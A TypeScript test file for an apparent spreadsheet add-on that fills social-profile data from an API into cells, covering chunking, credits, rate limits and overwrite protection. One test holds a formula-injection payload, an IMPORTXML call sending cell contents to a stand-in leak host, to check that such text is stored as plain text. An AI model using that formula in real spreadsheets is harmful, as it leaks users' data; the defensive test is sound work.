import { expect, test } from 'vitest';
import type { FillReply, PageFailure } from '../../../addon/platform/page-replies.ts';
import type { SpreadsheetFile } from '../harness/file.ts';
import { goodKey, people, setKey, setUpWorkbench } from '../spreadsheet-setup.ts';

const bench = setUpWorkbench();
const [ada = '', ben = ''] = Object.keys(people);
const nobody = 'https://photo.example/nobody';
const fields = ['followers', 'account_id', 'bio', 'retrieved_at'];

function ask(file: SpreadsheetFile, name: string, ...args: unknown[]): FillReply | PageFailure {
  return file.run(name, args) as FillReply | PageFailure;
}

function begin(file: SpreadsheetFile, mode: string, more: Record<string, unknown> = {}): FillReply {
  const reply = ask(file, 'sidebarFillStart', { mode, fields, max_age: '1d', ...more });
  if (!reply.ok) throw new Error(reply.message);
  return reply;
}

function chunk(file: SpreadsheetFile, id: string | undefined): FillReply {
  const reply = ask(file, 'sidebarFillChunk', id);
  if (!reply.ok) throw new Error(reply.message);
  return reply;
}

/** Requests chunks until the fill is finished. */
function fill(file: SpreadsheetFile, mode: string, more: Record<string, unknown> = {}): FillReply {
  let reply = begin(file, mode, more);
  while (reply.job !== null && !reply.job.finished && reply.stopped === null) reply = chunk(file, reply.job.id);
  return reply;
}

async function openWithUrls(...urls: string[]): Promise<SpreadsheetFile> {
  const file = await bench.open();
  setKey(file);
  file.type('A1', 'Profile', ...urls);
  file.select(`A2:A${urls.length + 1}`);
  return file;
}

/** Returns the properties in which the file saves a fill. */
function savedProperties(file: SpreadsheetFile): string[] {
  return Object.keys(file.world().properties.document).filter((name) => name.startsWith('fill'));
}

function invented(count: number): Record<string, Record<string, unknown>> {
  const numbered = Array.from({ length: count }, (_, index) => [
    `https://photo.example/p${index}`,
    { platform: 'photo', account_id: `9007199254740993${index}`, followers: index, bio: `person ${index}` },
  ]);
  return Object.fromEntries(numbered);
}

test('values are beside their URLs: a status for each row, numbers as numbers, ids as text, dates in UTC, unknown empty', async () => {
  const retrievedAt = '2026-01-02T03:04:00.000Z';
  await bench.api.begin({
    keys: [goodKey],
    people: { ...people, [ada]: { ...people[ada], retrieved_at: retrievedAt } },
  });
  const file = await openWithUrls(ada, nobody, '', ben);
  const { job } = fill(file, 'replace');
  expect(job).toMatchObject({ total: 3, done: 3, ok: 2, failed: 1, credits: 2, finished: true });
  expect(file.values('A1:F5')).toEqual([
    ['Profile', 'Status', 'Followers', 'Account ID', 'Bio', 'Retrieved at (UTC)'],
    [ada, 'OK', 1_200, '72057594037927937', 'Looms & numbers', expect.closeTo(46_024.12777, 4)],
    [nobody, 'RESOURCE_NOT_FOUND', '', '', '', ''],
    ['', '', '', '', '', ''],
    [ben, 'OK', 5_400_000, '6800000000000000001', '', ''],
  ]);
  expect(file.types('B2:F2')).toEqual([['text', 'number', 'text', 'text', 'date']]);
  expect(savedProperties(file)).toEqual([]);
});

test('hostile text is written as the text it is, also where the cells were plain text before', async () => {
  const texts = [
    '=IMPORTXML("http://leak.example/?"&A1,"//a")',
    '+1',
    '-2+3',
    '@SUM(A1)',
    "'quoted",
    '0012',
    '1/2',
    'TRUE',
  ];
  const hostile = Object.fromEntries(texts.map((bio, index) => [`https://photo.example/${index}`, { bio }]));
  await bench.api.begin({ keys: [goodKey], people: hostile });
  const file = await openWithUrls(...Object.keys(hostile));
  file.format('B2:E9', '@');
  fill(file, 'replace', { fields: ['bio'] });
  expect(file.values('C2:C9').flat()).toEqual(texts);
  expect(new Set(file.types('C2:C9').flat())).toEqual(new Set(['text']));
  expect(Object.values(file.sheet()).filter((cell) => cell.formula !== undefined)).toEqual([]);
});

test('text longer than a cell is cut at 50,000 characters', async () => {
  await bench.api.begin({ keys: [goodKey], people: { [ada]: { bio: 'x'.repeat(60_000) } } });
  const file = await openWithUrls(ada);
  fill(file, 'replace', { fields: ['bio'] });
  expect(String(file.values('C2')[0]?.[0])).toHaveLength(50_000);
});

test('a chunk is at most twenty rows, and a fill continues where it stopped after the sidebar is reopened', async () => {
  const many = invented(45);
  await bench.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(...Object.keys(many));
  const { job } = begin(file, 'replace', { fields: ['followers'] });
  expect(chunk(file, job?.id).job).toMatchObject({ total: 45, done: 20, credits: 20, finished: false });
  expect(
    file
      .values('C2:C46')
      .flat()
      .filter((cell) => cell !== ''),
  ).toHaveLength(20);
  const again = ask(file, 'sidebarFill');
  expect(again).toMatchObject({ ok: true, job: { id: job?.id, done: 20, total: 45 } });
  expect(chunk(file, job?.id).job?.done).toBe(40);
  expect(chunk(file, job?.id).job).toMatchObject({ done: 45, credits: 45, finished: true });
  expect(file.values('C2:C46').flat()).toEqual(Array.from({ length: 45 }, (_, index) => index));
  expect((await bench.api.log()).credits_charged).toBe(45);
});

test('rows that were sorted or taken out meanwhile: every value is beside its own URL, and removed rows cost nothing', async () => {
  const many = invented(45);
  await bench.api.begin({ keys: [goodKey], people: many });
  const urls = Object.keys(many);
  const file = await openWithUrls(...urls);
  const { job } = begin(file, 'replace', { fields: ['followers'] });
  chunk(file, job?.id);
  const backwards = [...urls].reverse();
  file.type('A2', ...backwards.map((url, index) => (index < 5 ? '' : url)));
  file.type('B2', ...Array(45).fill(''));
  file.type('C2', ...Array(45).fill(''));
  chunk(file, job?.id);
  expect(chunk(file, job?.id).job).toMatchObject({ done: 45, ok: 40, removed: 5, finished: true });
  const shown = file.values('A2:C46').filter(([, status]) => status !== '');
  expect(shown.map(([url, , followers]) => [url, followers])).toEqual(
    backwards.slice(5, 25).map((url) => [url, many[url]?.followers]),
  );
  expect((await bench.api.log()).credits_charged).toBe(40);
});

test('headings that were moved away stop the fill, and nothing is written over other cells', async () => {
  const file = await openWithUrls(ada, ben);
  const { job } = begin(file, 'replace');
  file.type('B1', 'Mine');
  const before = file.sheet();
  expect(ask(file, 'sidebarFillChunk', job?.id)).toMatchObject({
    ok: false,
    message: expect.stringContaining('headings'),
  });
  expect(file.sheet()).toEqual(before);
  file.type('B1', 'Status');
  expect(chunk(file, job?.id).job?.finished).toBe(true);
});

test('cells with other content are never overwritten', async () => {
  const file = await openWithUrls(ada, ben);
  file.type('D3', 'mine');
  expect(ask(file, 'sidebarFillStart', { mode: 'replace', fields, max_age: '1d' })).toMatchObject({
    ok: false,
    message: expect.stringContaining('B1:F3'),
  });
  expect(file.values('B1:F2').flat().join('')).toBe('');
  expect(savedProperties(file)).toEqual([]);
});

test('replacing again writes over its own table, and requests only rows that are not paid for', async () => {
  const file = await openWithUrls(ada, ben);
  fill(file, 'replace');
  expect(fill(file, 'replace').job).toMatchObject({ ok: 2, credits: 0 });
  expect((await bench.api.log()).credits_charged).toBe(2);
});

test('a snapshot adds rows with its time to a sheet of its own, which grows', async () => {
  const many = invented(30);
  await bench.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(...Object.keys(many));
  const area = { sheet: 'Sheet1', a1: 'A2:A31' };
  fill(file, 'append', { fields: ['followers'], area });
  expect(file.values('A1:D2', 'Snapshots')).toEqual([
    ['Taken at (UTC)', 'URL', 'Status', 'Followers'],
    [expect.any(Number), 'https://photo.example/p0', 'OK', 0],
  ]);
  expect(file.types('A2', 'Snapshots')).toEqual([['date']]);
  file.show('Snapshots');
  file.type(`B${file.sheetState('Snapshots').rows}`, 'an older row');
  file.show('Sheet1');
  fill(file, 'append', { fields: ['followers'], area });
  expect(file.values('B1001:B1030', 'Snapshots').flat()).toEqual(Object.keys(many));
  expect(file.world().current.sheet).toBe('Sheet1');
  expect((await bench.api.log()).credits_charged).toBe(30);
});

test('updating keeps one row for each account: a renamed account keeps its row, and another account with the old name gets a new row', async () => {
  const file = await openWithUrls(ada, ben);
  fill(file, 'update', { fields: ['username', 'followers'] });
  file.show('Sheet1');
  const renamed = 'https://photo.example/ada.new';
  const peopleNow = {
    [renamed]: { ...people[ada], username: 'ada.new', followers: 1_300 },
    [ada]: { ...people[ada], account_id: '999', followers: 3 },
  };
  await bench.api.begin({ keys: [goodKey], people: peopleNow });
  file.type('A2', renamed, ben, ada);
  file.select('A2:A4');
  fill(file, 'update', { fields: ['username', 'followers'] });
  expect(file.values('A1:G4', 'Profiles').map((row) => row.filter((_, index) => index !== 1))).toEqual([
    ['Status', 'Platform', 'Account ID', 'URL', 'Username', 'Followers'],
    ['OK', 'photo', '72057594037927937', renamed, 'ada.new', 1_300],
    ['RESOURCE_NOT_FOUND', 'shortvideo', '6800000000000000001', ben, 'ben', 5_400_000],
    ['OK', 'photo', '999', ada, 'ada', 3],
  ]);
});

test('the rate limit is a wait of a known length, after which the fill continues without losing rows', async () => {
  const file = await openWithUrls(ada, ben);
  const limit = {
    status: 429,
    headers: { 'retry-after': '41' },
    body: '{"error":{"code":"RATE_LIMITED","message":""}}',
  };
  const { job } = begin(file, 'replace');
  await bench.api.begin({ keys: [goodKey], people, answers: [limit] });
  expect(chunk(file, job?.id)).toMatchObject({ wait_s: 41, stopped: null, job: { done: 0, total: 2 } });
  expect(chunk(file, job?.id)).toMatchObject({ wait_s: null, job: { done: 2, credits: 2, finished: true } });
});

test.each([
  ['no credits', 402, 'INSUFFICIENT_CREDITS', 'not enough credits'],
  ['a revoked key', 401, 'INVALID_API_KEY', 'revoked'],
  ['a broken server', 502, '', 'cannot answer'],
])('%s stops the fill with a sentence and keeps it', async (_, status, code, words) => {
  const file = await openWithUrls(ada, ben);
  const { job } = begin(file, 'replace');
  await bench.api.begin({ keys: [goodKey], people, answers: [{ status, body: `{"error":{"code":"${code}"}}` }] });
  const stopped = chunk(file, job?.id);
  expect(stopped).toMatchObject({ wait_s: null, stopped: expect.stringContaining(words), job: { done: 0 } });
  expect(chunk(file, job?.id).job).toMatchObject({ done: 2, finished: true });
});

test('rows that lacked credits are requested again after a top-up, and answered rows are not', async () => {
  await bench.api.begin({
    keys: [goodKey],
    people: { ...people, [ben]: { status: 'INSUFFICIENT_CREDITS', credits_charged: 0 } },
  });
  const file = await openWithUrls(ada, ben);
  const { job } = begin(file, 'replace', { max_age: 'fresh' });
  expect(chunk(file, job?.id)).toMatchObject({
    stopped: expect.stringContaining('Add credits'),
    job: { done: 1, ok: 1 },
  });
  await bench.api.begin({ keys: [goodKey], people });
  expect(chunk(file, job?.id).job).toMatchObject({ done: 2, ok: 2, finished: true });
  const { requests } = await bench.api.log();
  expect(requests.flatMap(({ parameters }) => parameters.url ?? [])).toEqual([ben]);
});

test('fresh data whose answer was lost is not charged a second time', async () => {
  const file = await openWithUrls(ada, ben);
  const { job } = begin(file, 'replace', { max_age: 'fresh' });
  const document = file.world().properties.document;
  const lost = JSON.parse(document.fill ?? '{}');
  document.fill = JSON.stringify({
    ...lost,
    uncertain: true,
    lease: { by: 'closed', until_ms: file.world().now_ms + 60_000 },
  });
  expect(chunk(file, job?.id)).toMatchObject({ wait_s: 60, job: { done: 0 } });
  file.pass(61_000);
  expect(chunk(file, job?.id).job).toMatchObject({ done: 2, finished: true });
  expect((await bench.api.log()).requests.at(-1)?.parameters).toMatchObject({ fresh: [], cache_max_age: ['1d'] });
});

test('a file has one fill: a second one is refused until the first is finished or discarded, and written rows stay', async () => {
  const many = invented(25);
  await bench.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(...Object.keys(many));
  const { job } = begin(file, 'replace', { fields: ['followers'] });
  chunk(file, job?.id);
  const second = ask(file, 'sidebarFillStart', { mode: 'append', fields, max_age: '1d' });
  expect(second).toMatchObject({ ok: false, message: expect.stringContaining('not finished') });
  expect(ask(file, 'sidebarFillDiscard', job?.id)).toMatchObject({ ok: true, job: null });
  expect(ask(file, 'sidebarFillChunk', job?.id)).toMatchObject({ ok: false });
  expect(savedProperties(file)).toEqual([]);
  expect(file.values('C21:C22').flat()).toEqual([19, '']);
});

test('a fill stops while another user writes to the file, and continues later without losing rows', async () => {
  const file = await openWithUrls(ada);
  const { job } = begin(file, 'replace');
  file.holdLock(120_000);
  expect(ask(file, 'sidebarFillChunk', job?.id)).toMatchObject({
    ok: false,
    message: expect.stringContaining('Another user'),
  });
  file.pass(121_000);
  expect(chunk(file, job?.id).job?.finished).toBe(true);
});

test.each([
  ['nothing is selected', 'C1:C5', 'empty'],
  ['several columns are selected', 'A1:B3', 'one column'],
])('%s: the sidebar says what to select', async (_, area, words) => {
  const file = await openWithUrls(ada);
  file.select(area);
  expect(file.run('sidebarSelection', [])).toMatchObject({ ok: false, message: expect.stringContaining(words) });
});
